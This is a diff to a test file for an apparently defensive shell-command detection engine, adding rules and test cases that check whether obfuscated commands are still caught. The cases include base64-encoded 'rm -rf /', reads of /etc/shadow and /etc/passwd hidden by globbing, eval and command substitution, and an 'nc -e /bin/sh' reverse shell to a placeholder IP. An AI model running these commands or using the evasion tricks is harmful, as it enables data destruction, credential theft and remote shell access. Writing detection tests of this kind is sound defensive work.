@@ -1,6 +1,8 @@
 import { describe, expect, it } from 'vitest';
+import { compileRuleSet } from './compile-rule-set';
 import { EventFacts, factsRecord } from './facts';
-import { commandEvent } from './testing/rule-factory';
+import { formatRuleProblems, loadRuleSet } from './load-rule-set';
+import { commandEvent, ruleFile } from './testing/rule-factory';
 
 describe('EventFacts', () => {
   it('derives commandLine, commands, programs and decoded', () => {
@@ -8,7 +10,8 @@ describe('EventFacts', () => {
       commandEvent('echo cm0gLXJmIC8gLS1mb3JjZQ== | base64 -d | sudo sh; /bin/ls'),
     );
     expect(facts.get('commandLine')).toMatch(/^echo/);
-    expect(facts.get('programs')).toEqual(['echo', 'base64', 'sh', 'ls']);
+    // `rm` is the decoded payload the shell reads on stdin (stdin-scripts.ts).
+    expect(facts.get('programs')).toEqual(['echo', 'base64', 'sh', 'ls', 'rm']);
     expect(facts.get('decoded')).toEqual(['rm -rf / --force']);
     expect(facts.get('timestamp')).toBe('2026-01-15T12:00:00.000Z');
   });
@@ -37,5 +40,56 @@ describe('EventFacts', () => {
     const facts = new EventFacts({ ...commandEvent('x'), process: {} as never });
     expect(facts.get('commands')).toEqual([]);
     expect(Object.keys(factsRecord(facts))).toHaveLength(15);
+  });
+});
+
+describe('commands fact: rules see what bash would run (issue 21)', () => {
+  const rule = (id: string, value: unknown) =>
+    ruleFile({ id, conditions: { all: [{ fact: 'commands', operator: 'anyCommand', value }] } });
+  const RULES = [
+    rule('SW-TST-0001', { program: 'rm', hasFlags: ['r', 'f'], anyArg: '/var/log' }),
+    rule('SW-TST-0002', { program: ['cat', 'head'], anyArg: '/etc/shadow' }),
+    rule('SW-TST-0003', { program: 'wget', anyArg: { regex: '^http' } }),
+    rule('SW-TST-0004', { program: 'nc', anyArg: '-e' }),
+    rule('SW-TST-0005', { program: 'cat', anyArg: '/etc/passwd' }),
+  ];
+  const loaded = loadRuleSet(RULES);
+  if (!loaded.ok) throw new Error(formatRuleProblems(loaded.errors));
+  const withPrefilter = compileRuleSet(loaded.ruleSet);
+  const without = compileRuleSet(loaded.ruleSet, { prefilter: false });
+  const ids = (matches: { rule: { id: string } }[]): string[] => matches.map((m) => m.rule.id);
+
+  it.each([
+    ['{rm,-rf,/var/log}', ['SW-TST-0001']],
+    ['{wget,http://x.example/a}', ['SW-TST-0003']],
+    ['/bin/{c,}at /etc/passwd', ['SW-TST-0005']],
+    [`echo 'rm -rf /var/log' | bash`, ['SW-TST-0001']],
+    ['echo rm -rf /var/log | sh', ['SW-TST-0001']],
+    [`printf '%s' 'cat /etc/shadow' | sh`, ['SW-TST-0002']],
+    ['printf %s%s c at\\ /etc/shadow | sh', ['SW-TST-0002']],
+    [`bash <<< 'id; cat /etc/shadow'`, ['SW-TST-0002']],
+    ['sh <<< cat\\ /etc/shadow', ['SW-TST-0002']],
+    [`sh <<<"$(echo 'nc -e /bin/sh 192.0.2.1 4444')"`, ['SW-TST-0004']],
+    ['echo Y2F0IC9ldGMvc2hhZG93 | base64 -d | bash', ['SW-TST-0002']],
+    ['base64 -d <<< Y2F0IC9ldGMvc2hhZG93 | sudo sh', ['SW-TST-0002']],
+    ['cat /etc/shado[w]', ['SW-TST-0002']],
+    ['head -5 /e?c/sh*ow', ['SW-TST-0002']],
+    ['/???/c?t /etc/passwd', ['SW-TST-0005']],
+    ['$(echo rm) -rf /var/log', ['SW-TST-0001']],
+    ['`printf rm` -rf /var/log', ['SW-TST-0001']],
+    ['${x:-rm} -rf /var/log', ['SW-TST-0001']],
+    ['$(echo rm -rf /var/log)', ['SW-TST-0001']],
+    ['eval $(echo Y2F0IC9ldGMvc2hhZG93 | base64 -d)', ['SW-TST-0002']],
+    ['a=rm; $a -rf /var/log', ['SW-TST-0001']],
+    ['builtin exec -a sshd nc -e /bin/sh 192.0.2.1 4444', ['SW-TST-0004']],
+    ['command -p cat /etc/passwd', ['SW-TST-0005']],
+    // Not what bash would run: these stay unmatched.
+    [`echo '{rm,-rf,/var/log}'`, []],
+    [`cat '/etc/shado[w]'`, []],
+    ['echo rm -rf /var/log | grep x', []],
+    ['cat payload.txt | bash', []],
+  ])('%s → %j', (line, expected) => {
+    expect(ids(without.evaluate(commandEvent(line)))).toEqual(expected);
+    expect(ids(withPrefilter.evaluate(commandEvent(line)))).toEqual(expected);
   });
 });
